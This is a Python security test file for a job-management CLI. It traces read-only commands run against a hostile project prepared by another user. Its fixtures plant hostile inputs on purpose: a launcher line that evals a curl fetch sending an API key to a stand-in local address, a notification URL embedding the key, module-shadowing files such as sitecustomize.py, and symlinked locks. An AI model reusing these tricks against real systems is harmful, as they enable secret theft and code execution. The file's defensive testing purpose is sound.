"""Commands that look, under strace, over a project of another user who means harm.

Whatever its files say, a look starts no program but Slurm's queries, connects nowhere and writes only what the table of
docs/explanation/trust.md allows.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from relayrun.config.compose.yaml_file import dump_yaml
from relayrun.control.rundir.campaign import Campaign, CampaignMember, CampaignMembership, membership_path
from relayrun.control.rundir.plan import Plan
from relayrun.control.rundir.records import ChainEnd
from relayrun.control.rundir.run import Run, write_stop
from tests.history import make_history
from tests.workspace import CONFIG

STRANGER = 12_345
ROOT = Path(__file__).resolve().parents[2]
TABLE = (ROOT / "docs/explanation/trust.md").read_text(encoding="utf-8")
CALLS = "execve,connect,sendto,open,openat,creat,unlink,unlinkat,rename,renameat,renameat2,mkdir,mkdirat,rmdir"
CALLS += ",link,linkat,symlink,symlinkat,chmod,fchmodat,chown,fchownat,truncate,utimensat,mknod,mknodat"
QUERIES = ("squeue", "sacct", "scontrol", "sinfo", "sdiag")


@pytest.fixture(scope="module")
def project() -> Iterator[Path]:
    """A project folder in which a stranger prepared everything that a look could trip over."""
    if os.geteuid() != 0 or shutil.which("strace") is None:
        if os.environ.get("CI") == "true":
            pytest.fail("two users need root, the test needs strace, and CI must not skip it")
        pytest.skip("needs root, for files of another user, and strace")
    top = Path(tempfile.mkdtemp(prefix="looking-"))
    top.chmod(0o755)
    try:
        yield hostile_project(top)
    finally:
        shutil.rmtree(top)


def hostile_project(top: Path) -> Path:
    """Make the project below `top`; its programs make `top/harm/...`, and `top/mine` is a file of this user."""
    folder, harm = top / "project", top / "harm"
    harm.mkdir()
    (top / "mine").write_text("words of this user")
    runs = folder / "logs/runs/theirs"
    harmful_program(harm, folder / "program")
    ended, live, waiting = (make_history(runs / name, lines=40, attempts=2) for name in ("ended", "live", "waiting"))
    command = [str(folder / "program"), "looked"]
    for run, scheduler in ((ended, "local"), (live, "slurm"), (waiting, "slurm")):
        plan = Plan.load(run)
        plan = replace(plan, scheduler=scheduler, quota_command=command, host_python=command[0], setup=[command[0]])
        plan = replace(plan, package_root=str(folder), owner=None)
        plan.write(run.plan)
        tell(run, command)
    write_stop(ended, ChainEnd("failed", "it broke"))
    shutil.rmtree(waiting.attempts)
    waiting.attempts.mkdir()
    campaign = runs / "stages"
    campaign.mkdir()
    CampaignMembership(folder=str(campaign), member="01").write(membership_path(waiting))
    members = [CampaignMember(name="01", run_dir=str(waiting.path))]
    Campaign(kind="stages", name="theirs/stages", owner=0, scheduler="slurm", at_once=None, members=members).save(
        campaign
    )
    (runs / "logs").mkdir()
    (runs / f"logs/{Plan.load(ended).job_name}-1.err").write_text("words of a job\n")
    for lock in (ended.path / "local/queue.lock", waiting.path / "local/runner.lock", live.path / ".submit.lock"):
        lock.unlink(missing_ok=True)
        lock.symlink_to(top / "mine")
    os.mkfifo(waiting.path / "quota.json")
    make_configs(folder, [ended, live, waiting], command)
    for name in ("yaml.py", "rich.py", "pydantic.py", "sitecustomize.py", "relayrun.py"):
        (folder / name).write_text(f"open({str(harm / name)!r}, 'w')\n")
    (folder / ".relayrun").write_text(f"python={command[0]}\n")
    (folder / "launcher.sh").write_text(LAUNCHER.format(program=command[0], top=top))
    make_wrapped(folder, command)
    for name in ("python3", "nvidia-smi"):
        harmful_program(harm, folder / "tools" / name)
    for at, names, files in os.walk(folder):
        for name in names + files:
            os.lchown(os.path.join(at, name), STRANGER, STRANGER)
    os.lchown(folder, STRANGER, STRANGER)
    return folder


LAUNCHER = """\
#!/bin/bash
#SBATCH --nodes=1 --ntasks-per-node=1
export PATH={top}/project/tools:$PATH
touch {top}/harm/touched; {program} started; source tools/python3
NAME=$({program} asked) || NAME=$(cat {top}/mine)
[[ -e $({program} tested) ]] && eval "$(curl http://127.0.0.1:9/$WANDB_API_KEY)"
echo words > {top}/harm/written
srun python3 megatron/pretrain_gpt.py --num-layers 2 --exit-interval $((a[$({program} counted)]))
"""
"""Each way in which a launcher starts and writes something."""


def make_wrapped(folder: Path, command: list[str]) -> None:
    """Make a script for sbatch, a site that the project has for it, and a run of it with links to words of others."""
    script = LAUNCHER.format(program=command[0], top=folder.parent).replace("--nodes=1", "--nodes=1 --time=10")
    (folder / "theirs.sbatch").write_text(script)
    site = {"scheduler": "slurm", "python": command[0], "host_python": command[0], "quota_command": command}
    site |= {"name": "theirs", "command_prefix": command, "modules": ["theirs"]}
    (folder / "configs/clusters").mkdir(parents=True)
    (folder / "configs/clusters/generic.yaml").write_text(dump_yaml(site))
    run = make_history(folder / "logs/runs/theirs/wrapped", lines=40, attempts=2)
    plan = Plan.load(run)
    replace(plan, trainer="command", owner=None, quota_command=command, program=command).write(run.plan)
    Path(plan.log_folder, f"{plan.job_name}-1.err").write_text("words of a job\n")
    for checkpoints in (folder / "out", run.checkpoints):
        shutil.rmtree(checkpoints, ignore_errors=True)
    (folder / "out").mkdir()
    (folder / "out/step=7.ckpt").symlink_to(folder.parent / "mine")
    run.checkpoints.symlink_to(folder / "out")
    values = {"project": "theirs", "name": "wrapped", "trainer": "command", "cluster": "generic", "job": {"time": "5"}}
    own = {"run": command, "checkpoint": {"folder": f"{folder}/out/", "pattern": "step={iteration}.ckpt"}}
    run.config.mkdir(exist_ok=True)
    run.config_revision(1).write_text(dump_yaml(values | {"run_dir": str(run.path), "command": own}))


def harmful_program(harm: Path, path: Path) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(f'#!/bin/sh\ntouch {harm}/"$(basename "$0")-$1"\n')
    path.chmod(0o755)


def tell(run: Run, command: list[str]) -> None:
    """A due notice with a command, and with an address that takes a key of who looks."""
    events = ["stopped", "failed", "done", "stalled", "hang"]
    targets = [
        {"name": "pager", "url": None, "command": command, "events": events},
        {"name": "web", "url": "json://127.0.0.1:9/${WANDB_API_KEY}", "command": [], "events": events},
    ]
    policy = {"run": "a/b", "cluster": "x", "since": 0.0, "targets": targets, "failed_attempts": 2, "program": command}
    (run.path / "notices").mkdir()
    more = {"no_progress": 21600.0, "disk_checkpoints": 0}
    (run.path / "notices/policy.json").write_text(json.dumps(policy | more))


def make_configs(folder: Path, runs: list[Run], command: list[str]) -> None:
    cluster = CONFIG["cluster"] | {"python": command[0], "host_python": command[0], "quota_command": command}
    values = CONFIG | {"cluster": cluster | {"modules": ["theirs"]}, "job": CONFIG["job"] | {"setup": command[:1]}}
    values |= {"data": {"datasets": [f"{folder}/data"], "tokenizer": "s3://127.0.0.1:9/tokenizer.json"}}
    for number, run in enumerate(runs):
        values["run_dir"] = str(run.path)
        run.config.mkdir(exist_ok=True)
        for revision in (1, 2):
            values["training"] = CONFIG["training"] | {"steps": 10 + revision + number}
            run.config_revision(revision).write_text(dump_yaml(values))
    (folder / "theirs.yaml").write_text(dump_yaml(values | {"run_dir": f"{folder}/logs/runs/theirs/new"}))


LOOKS = {
    "status": ["status"],
    "status RUN": ["status", "logs/runs/theirs/ended"],
    "status of a live run": ["status", "logs/runs/theirs/live"],
    "status --json": ["status", "--json"],
    "status PROJECT": ["status", "."],
    "logs": ["logs", "logs/runs/theirs/ended"],
    "report --text": ["report", "--text", "logs/runs/theirs/ended"],
    "why": ["why", "logs/runs/theirs/ended"],
    "why of a live run": ["why", "logs/runs/theirs/live"],
    "why --json": ["why", "--json", "--attempt", "1", "logs/runs/theirs/waiting"],
    "adopt": ["adopt", "launcher.sh", "--output", "/nowhere/run.yaml"],
    "submit --dry-run": ["submit", "--dry-run", "theirs.yaml"],
    "wrap --dry-run": ["wrap", "--dry-run", "--checkpoints", "out/step={iteration}.ckpt", "theirs.sbatch"],
    "status of a wrapped run": ["status", "logs/runs/theirs/wrapped"],
    "logs of a wrapped run": ["logs", "logs/runs/theirs/wrapped"],
    "report of a wrapped run": ["report", "--text", "logs/runs/theirs/wrapped"],
    "why of a wrapped run": ["why", "logs/runs/theirs/wrapped"],
    "goodput": ["goodput", "logs/runs/theirs/live"],
    "runs list": ["runs", "list"],
    "explain": ["explain", "job.setup"],
    "config": ["config", "logs/runs/theirs/ended"],
    "config FILE": ["config", "theirs.yaml"],
    "diff": ["diff", "logs/runs/theirs/ended:1", "logs/runs/theirs/ended:2"],
    "check": ["check", "theirs.yaml"],
    "stages status": ["stages", "status", "logs/runs/theirs/stages"],
    "sentinel": ["sentinel", "logs/runs"],
    "resume": ["resume", "logs/runs/theirs/ended"],
    "notify send": ["notify", "send", "logs/runs/theirs/ended"],
}
"""Commands by their names in the test. The last two act, and refuse to."""
RETURNS = {"why --json": 1, "adopt": 1, "diff": 1, "resume": 1, "notify send": 1}


@pytest.mark.parametrize("name", LOOKS)
def test_a_look_at_a_strangers_project_does_nothing_but_look(project: Path, name: str, tmp_path: Path) -> None:
    before = everything(project.parent)
    done, calls = traced(project, LOOKS[name], tmp_path)
    assert "Traceback" not in done.stderr, done.stderr
    print(done.stdout, done.stderr, *calls, sep="\n")
    assert done.returncode == RETURNS.get(name, 0), done.stderr
    wrong = [line for line in calls if not is_allowed(line, LOOKS[name][0], tmp_path / "home")]
    assert wrong == [], f"{done.stdout}{done.stderr}"
    after = everything(project.parent)
    changed = {path for path in before.keys() | after.keys() if before.get(path) != after.get(path)}
    assert changed - ({"project/logs/runs"} if name == "sentinel" else set()) <= own_records(name)
    assert list((project.parent / "harm").iterdir()) == []


def own_records(name: str) -> set[str]:
    """The record of the cron look, which is this user's own."""
    return (
        {f"project/logs/runs/.sentinel-root.{suffix}" for suffix in ("json", "lock")} if name == "sentinel" else set()
    )


def everything(top: Path) -> dict[str, tuple[int, int, int]]:
    found = {str(path.relative_to(top)): os.lstat(path) for path in top.rglob("*")}
    return {name: (status.st_ino, status.st_mtime_ns, status.st_mode) for name, status in found.items()}


def traced(project: Path, words: list[str], scratch: Path) -> tuple[subprocess.CompletedProcess[str], list[str]]:
    """Run `relayrun` with these words in the project; return what it printed, and its calls that could do harm."""
    programs, home, record = scratch / "bin", scratch / "home", scratch / "calls"
    programs.mkdir()
    home.mkdir()
    for query in (*QUERIES, "sbatch", "scancel", "lfs", "quota", "git"):
        (programs / query).write_text("#!/bin/sh\nexit 0\n")
        (programs / query).chmod(0o755)
    environment = {
        "PATH": f"{programs}:/usr/bin:/bin",
        "HOME": str(home),
        "TMPDIR": str(scratch / "home"),
        "PYTHONDONTWRITEBYTECODE": "1",
        "WANDB_API_KEY": "0123456789abcdef",
    }
    program = ["-c", "import sys; sys.path[0] = sys.argv.pop(1); from relayrun.cli import main; sys.exit(main())"]
    command = ["strace", "-f", "-qq", "--seccomp-bpf", "-s", "300", "-e", f"trace={CALLS}", "-o", str(record)]
    done = subprocess.run(
        [*command, sys.executable, *program, str(ROOT), *words],
        cwd=project,
        env=environment,
        capture_output=True,
        text=True,
        check=False,
        timeout=300,
    )
    lines = [line.partition(" ")[2].strip() for line in record.read_text().splitlines()]
    assert lines[0].startswith("execve("), "strace saw nothing"
    return done, [line for line in lines if is_an_act(line)][1:]  # the first starts Python


def is_an_act(line: str) -> bool:
    """Whether a call was done and is more than reading."""
    if re.search(r" = -1 |^[+-]{3} |^<\.\.\. ", line):
        return False
    opened = re.match(r"open(at)?\(", line)
    return opened is None or re.search(r"O_WRONLY|O_RDWR|O_CREAT|O_TRUNC|O_APPEND", line) is not None


def is_allowed(line: str, verb: str, home: Path) -> bool:
    """Whether the page allows a command this call."""
    starts, connects, writes = allowed(verb)
    call = re.match(r"\w+", line)
    paths = re.findall(r'"([^"]*)"', line)
    if call is not None and call[0] == "execve":
        return os.path.basename(paths[0]) in starts
    if call is not None and call[0] in ("connect", "sendto"):
        return "nothing" not in connects
    return all(path.startswith((str(home), "/dev/")) or is_named(path, writes) for path in paths)


def is_named(path: str, writes: str) -> bool:
    """Whether a path is of a form that the page names, or is the temporary file that becomes such a file."""
    forms = [form.replace("USER", "root") for form in re.findall(r"`(\.[^`]*)`", writes)]
    return bool(forms) and os.path.basename(path).startswith((*forms, ".tmp-"))


def allowed(verb: str) -> tuple[list[str], str, str]:
    """What the page says that a command starts, connects to and writes."""
    rows = [
        [cell.strip() for cell in line.strip("|").split("|")] for line in TABLE.splitlines() if line.count("|") == 5
    ]
    own = [row for row in rows if f"`{verb}`" in row[0]]
    assert len(own) == 1, f"docs/explanation/trust.md has {len(own)} rows of {verb}"
    _, starts, connects, writes = own[0]
    return re.findall(r"`(\w+)`", starts), connects, writes


def test_the_trace_sees_each_kind_of_harm(project: Path, tmp_path: Path) -> None:
    """A trace that sees nothing would pass everything."""
    seen = tmp_path / "calls"
    harm = "import os, socket, subprocess as s; os.mkdir('d'); os.rmdir('d'); open('f', 'w'); os.unlink('f');"
    harm += "s.run(['true']); socket.socket(socket.AF_INET, socket.SOCK_DGRAM).connect(('127.0.0.1', 9))"
    command = [
        "strace",
        "-f",
        "-qq",
        "--seccomp-bpf",
        "-e",
        f"trace={CALLS}",
        "-o",
        str(seen),
        sys.executable,
        "-c",
        harm,
    ]
    subprocess.run(command, cwd=tmp_path, check=True, timeout=60)
    acts = [line.partition(" ")[2].strip() for line in seen.read_text().splitlines()]
    acts = [line for line in acts if is_an_act(line)][1:]
    wrong = [line for line in acts if not is_allowed(line, "status", tmp_path / "home")]
    assert {match[0] for line in wrong if (match := re.match(r"\w+", line))} == {
        *("mkdir", "rmdir", "openat", "unlink", "execve", "connect")
    }
